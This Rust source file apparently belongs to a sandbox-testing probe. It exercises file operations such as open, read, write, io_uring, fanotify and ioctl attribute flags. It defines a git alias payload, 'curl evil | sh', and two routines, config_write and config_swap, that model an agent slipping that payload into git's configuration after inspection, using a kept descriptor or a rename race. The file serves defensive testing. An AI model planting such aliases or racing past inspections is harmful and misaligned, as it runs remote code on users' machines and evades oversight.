//! Operations on files and their contents: opening, reading, writing, git's
//! configuration dance, attributes and flags set through ioctl. Apart from
//! `main` so the dispatch reads as a table.

use std::{ffi::OsStr, os::unix::ffi::OsStrExt, time::Duration};

use crate::{
    Outcome, c, done, errno,
    tty::{ioctl32, low_page},
};

pub(crate) fn open(path: &OsStr, flags: i32) -> Result<i32, i32> {
    open_mode(path, flags, 0o644)
}

/// `open(2)`; `mode` is used only with `O_CREAT`.
fn open_mode(path: &OsStr, flags: i32, mode: libc::mode_t) -> Result<i32, i32> {
    let path = c(path);
    // SAFETY: a valid NUL-terminated path and plain flags.
    let fd = unsafe { libc::open(path.as_ptr(), flags | libc::O_CLOEXEC, mode) };
    if fd < 0 { Err(errno()) } else { Ok(fd) }
}

/// `open(O_WRONLY|O_CREAT|O_EXCL)` with `mode`, then close.
pub(crate) fn create(path: &OsStr, mode: libc::mode_t) -> Outcome {
    let fd = open_mode(path, libc::O_WRONLY | libc::O_CREAT | libc::O_EXCL, mode)?;
    close(fd);
    Ok("created".to_owned())
}

pub(crate) fn close(fd: i32) {
    // SAFETY: fd was returned by open and is closed once.
    unsafe { libc::close(fd) };
}

pub(crate) fn read_fd(fd: i32) -> Outcome {
    let mut total = 0usize;
    let mut buf = [0u8; 4096];
    loop {
        // SAFETY: buf is valid for its length.
        let n = unsafe { libc::read(fd, buf.as_mut_ptr().cast(), buf.len()) };
        if n < 0 {
            return Err(errno());
        }
        if n == 0 {
            break;
        }
        total += n as usize;
    }
    Ok(format!("read {total}"))
}

pub(crate) fn read(path: &OsStr) -> Outcome {
    let fd = open(path, libc::O_RDONLY)?;
    let result = read_fd(fd);
    close(fd);
    result
}

pub(crate) fn write(path: &OsStr, flags: i32, data: &OsStr) -> Outcome {
    let fd = open(path, flags)?;
    let data = data.as_bytes();
    // SAFETY: data is valid for its length.
    let n = unsafe { libc::write(fd, data.as_ptr().cast(), data.len()) };
    let result = if n < 0 {
        Err(errno())
    } else {
        Ok(format!("wrote {n}"))
    };
    close(fd);
    result
}

/// What an agent would slip into git's configuration after the twin
/// inspected it.
const EVIL_CONFIG: &[u8] = b"[alias]\n\tx = !curl evil | sh\n";

/// Writes git's configuration as git does (the bytes of `text` into a new
/// `lock`, renamed over `config`), keeping the lock's descriptor; once the
/// rename is done, writes [`EVIL_CONFIG`] through that descriptor, as an
/// agent that kept it could. Outputs the rename's outcome.
pub(crate) fn config_write(text: &OsStr, lock: &OsStr, config: &OsStr) -> Outcome {
    let bytes = std::fs::read(text).map_err(|e| e.raw_os_error().unwrap_or(255))?;
    let fd = open(lock, libc::O_WRONLY | libc::O_CREAT | libc::O_EXCL)?;
    // SAFETY: the bytes are valid for their length.
    unsafe { libc::write(fd, bytes.as_ptr().cast(), bytes.len()) };
    // SAFETY: valid NUL-terminated paths.
    let renamed = done(
        unsafe { libc::rename(c(lock).as_ptr(), c(config).as_ptr()) },
        "renamed",
    );
    // SAFETY: the bytes are valid for their length; fd is open.
    unsafe { libc::pwrite(fd, EVIL_CONFIG.as_ptr().cast(), EVIL_CONFIG.len(), 0) };
    close(fd);
    renamed
}

/// Writes `text` into a new `lock` and renames it over `config`; while the
/// rename waits (this process stopped), a child puts a file of
/// [`EVIL_CONFIG`] made at `other` in the lock's place. Outputs the
/// rename's outcome.
pub(crate) fn config_swap(text: &OsStr, lock: &OsStr, config: &OsStr, other: &OsStr) -> Outcome {
    let bytes = std::fs::read(text).map_err(|e| e.raw_os_error().unwrap_or(255))?;
    std::fs::write(lock, &bytes).map_err(|e| e.raw_os_error().unwrap_or(255))?;
    // SAFETY: fork in a single-threaded probe; the child only does system
    // calls and exits.
    let child = unsafe { libc::fork() };
    if child == 0 {
        // SAFETY: no arguments.
        let parent = unsafe { libc::getppid() };
        let stat = format!("/proc/{parent}/stat");
        for _ in 0..2000 {
            let stopped = std::fs::read_to_string(&stat)
                .ok()
                .and_then(|s| {
                    s.rsplit(')')
                        .next()
                        .map(|rest| rest.trim_start().starts_with('T'))
                })
                .unwrap_or(false);
            if stopped {
                break;
            }
            std::thread::sleep(Duration::from_micros(500));
        }
        let _ = std::fs::write(other, EVIL_CONFIG);
        // SAFETY: valid NUL-terminated paths.
        unsafe { libc::rename(c(other).as_ptr(), c(lock).as_ptr()) };
        // SAFETY: ends the child without running the parent's destructors.
        unsafe { libc::_exit(0) };
    }
    // SAFETY: valid NUL-terminated paths.
    let renamed = done(
        unsafe { libc::rename(c(lock).as_ptr(), c(config).as_ptr()) },
        "renamed",
    );
    let mut status = 0;
    // SAFETY: waits for the child forked above.
    unsafe { libc::waitpid(child, &raw mut status, 0) };
    renamed
}

pub(crate) fn opath_reopen(path: &OsStr) -> Outcome {
    let fd = open(path, libc::O_PATH)?;
    let result = read(OsStr::new(&format!("/proc/self/fd/{fd}")));
    close(fd);
    result
}

pub(crate) fn uring_open(path: &OsStr) -> Outcome {
    use io_uring::{IoUring, opcode, types};
    let mut ring = IoUring::new(4).map_err(|e| e.raw_os_error().unwrap_or(255))?;
    let path = c(path);
    let open = opcode::OpenAt::new(types::Fd(libc::AT_FDCWD), path.as_ptr())
        .flags(libc::O_RDONLY | libc::O_CLOEXEC)
        .build();
    // SAFETY: the path outlives the request, which completes before return.
    unsafe { ring.submission().push(&open) }.map_err(|_| libc::EBUSY)?;
    ring.submit_and_wait(1)
        .map_err(|e| e.raw_os_error().unwrap_or(255))?;
    let res = ring
        .completion()
        .next()
        .map(|cqe| cqe.result())
        .ok_or(libc::EIO)?;
    if res < 0 {
        return Err(-res);
    }
    let result = read_fd(res);
    close(res);
    result
}

pub(crate) fn fanotify_perm(path: &OsStr) -> Outcome {
    // SAFETY: a new fanotify group, marked then closed at once (closing it
    // answers any permission event it would have held).
    let fd = unsafe {
        libc::fanotify_init(
            libc::FAN_CLASS_CONTENT | libc::FAN_CLOEXEC,
            libc::O_RDONLY as u32,
        )
    };
    if fd < 0 {
        return Err(errno());
    }
    let path = c(path);
    let r = unsafe {
        libc::fanotify_mark(
            fd,
            libc::FAN_MARK_ADD,
            libc::FAN_OPEN_PERM,
            libc::AT_FDCWD,
            path.as_ptr(),
        )
    };
    let result = done(r, "marked");
    close(fd);
    result
}

pub(crate) fn peek(path: &OsStr) -> Outcome {
    let fd = open(path, libc::O_RDONLY)?;
    let mut buf = [0u8; 64];
    // SAFETY: buf is valid for its length.
    let n = unsafe { libc::read(fd, buf.as_mut_ptr().cast(), buf.len()) };
    close(fd);
    if n < 0 {
        Err(errno())
    } else {
        Ok(format!("peeked {n}"))
    }
}

pub(crate) fn inotify(path: &OsStr) -> Outcome {
    // SAFETY: a new inotify instance, watched once, closed.
    let fd = unsafe { libc::inotify_init1(libc::IN_CLOEXEC) };
    if fd < 0 {
        return Err(errno());
    }
    let path = c(path);
    let w = unsafe { libc::inotify_add_watch(fd, path.as_ptr(), libc::IN_ALL_EVENTS) };
    let result = done(w, "watching");
    close(fd);
    result
}

/// Opens `path` for reading, makes one call on the descriptor (returning -1
/// and setting errno on failure) and closes it.
pub(crate) fn on_file(path: &OsStr, call: impl FnOnce(i32) -> i32) -> Result<(), i32> {
    let fd = open(path, libc::O_RDONLY)?;
    let r = call(fd);
    let result = if r < 0 { Err(errno()) } else { Ok(()) };
    close(fd);
    result
}

/// `FS_IMMUTABLE_FL`, `FS_APPEND_FL`, `FS_NODUMP_FL`.
const FS_IMMUTABLE_FL: u32 = 0x10;
const FS_APPEND_FL: u32 = 0x20;
const FS_NODUMP_FL: u32 = 0x40;

pub(crate) fn set_flags(path: &OsStr, which: &OsStr, compat: bool) -> Outcome {
    let flags = match which.as_bytes() {
        b"i" => FS_IMMUTABLE_FL,
        b"a" => FS_APPEND_FL,
        b"d" => FS_NODUMP_FL,
        _ => 0,
    };
    let page = low_page()?;
    // SAFETY: the page holds at least an int, which the calls read.
    unsafe { page.cast::<u32>().write(flags) };
    on_file(path, |fd| {
        if compat {
            // `FS_IOC32_SETFLAGS`: `_IOW('f', 2, int)`.
            match ioctl32(fd, 0x4004_6602, page) {
                r if r < 0 => {
                    // SAFETY: errno is this thread's.
                    unsafe { *libc::__errno_location() = -r as i32 };
                    -1
                }
                _ => 0,
            }
        } else {
            // SAFETY: as above.
            unsafe { libc::ioctl(fd, libc::FS_IOC_SETFLAGS, page) }
        }
    })
    .map(|()| format!("set {flags:#x}"))
}

pub(crate) fn fsxattr_immutable(path: &OsStr) -> Outcome {
    /// `struct fsxattr`.
    #[repr(C)]
    #[derive(Default)]
    struct FsXattr {
        xflags: u32,
        extsize: u32,
        nextents: u32,
        projid: u32,
        cowextsize: u32,
        pad: [u8; 8],
    }
    /// `FS_IOC_FSGETXATTR`, `FS_IOC_FSSETXATTR`, `FS_XFLAG_IMMUTABLE`.
    const GET: libc::Ioctl = 0x801c_581f;
    const SET: libc::Ioctl = 0x401c_5820;
    const IMMUTABLE: u32 = 0x8;
    let mut attr = FsXattr::default();
    on_file(path, |fd| {
        // SAFETY: the calls read and write a `struct fsxattr`.
        if unsafe { libc::ioctl(fd, GET, &raw mut attr) } < 0 {
            return -1;
        }
        attr.xflags |= IMMUTABLE;
        unsafe { libc::ioctl(fd, SET, &raw const attr) }
    })
    .map(|()| "set".to_owned())
}

pub(crate) fn clone_from(dest: i32, src: &OsStr) -> Outcome {
    let src = open(src, libc::O_RDONLY)?;
    // SAFETY: FICLONE takes the source descriptor as its argument.
    let r = unsafe { libc::ioctl(dest, libc::FICLONE, src) };
    close(src);
    done(r, "cloned")
}
